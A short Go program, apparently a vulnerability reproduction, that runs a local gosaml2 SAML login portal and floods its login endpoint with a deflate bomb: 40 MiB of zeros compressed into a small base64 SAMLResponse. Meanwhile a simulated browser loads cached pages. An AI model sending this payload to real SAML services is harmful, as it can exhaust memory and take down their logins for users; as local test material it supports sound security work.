// Samlbomb is the login page of a company's portal (gosaml2). Some browsers post a login response
// that is small only because it is deflated. The portal keeps its pages, about 25 MiB.
package main

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"sync"
	"time"

	saml2 "github.com/russellhaering/gosaml2"
	dsig "github.com/russellhaering/goxmldsig"
)

type portal struct {
	login *saml2.SAMLServiceProvider
	pages map[string][]byte
}

func newPortal() *portal {
	p := &portal{pages: map[string][]byte{}, login: &saml2.SAMLServiceProvider{
		IdentityProviderIssuer:      "https://id.example",
		AssertionConsumerServiceURL: "https://portal.example/login",
		IDPCertificateStore:         &dsig.MemoryX509CertificateStore{},
	}}
	for i := range 3000 {
		p.pages[fmt.Sprintf("/page/%d", i)] = bytes.Repeat([]byte("<p>"), 2700)
	}
	return p
}

func (p *portal) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodGet {
		w.Write(p.pages[r.URL.Path])
		return
	}
	r.Body = http.MaxBytesReader(w, r.Body, 1<<20)
	if _, err := p.login.ValidateEncodedResponse(r.PostFormValue("SAMLResponse")); err != nil {
		http.Error(w, "login failed", http.StatusForbidden)
		return
	}
	http.Redirect(w, r, "/page/1", http.StatusSeeOther)
}

// hostile is a response of zeros, deflated.
func hostile(size int) string {
	var out bytes.Buffer
	z, err := flate.NewWriter(&out, flate.BestCompression)
	if err != nil {
		log.Fatal(err)
	}
	z.Write(make([]byte, size))
	z.Close()
	return base64.StdEncoding.EncodeToString(out.Bytes())
}

func drain(resp *http.Response, err error) {
	if err != nil {
		log.Print(err)
		return
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

func main() {
	last := flag.Duration("for", 25*time.Second, "how long the load lasts")
	flag.Parse()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	go http.Serve(l, newPortal())
	end, base := time.Now().Add(*last), "http://"+l.Addr().String()
	var browsers sync.WaitGroup
	browsers.Go(func() {
		for n := 0; time.Now().Before(end); n++ {
			drain(http.Get(fmt.Sprintf("%s/page/%d", base, n%3000)))
			time.Sleep(2 * time.Millisecond)
		}
	})
	form := url.Values{"SAMLResponse": {hostile(40 << 20)}}
	for range 3 {
		browsers.Go(func() {
			for time.Now().Before(end) {
				drain(http.PostForm(base+"/login", form))
				time.Sleep(400 * time.Millisecond)
			}
		})
	}
	browsers.Wait()
}
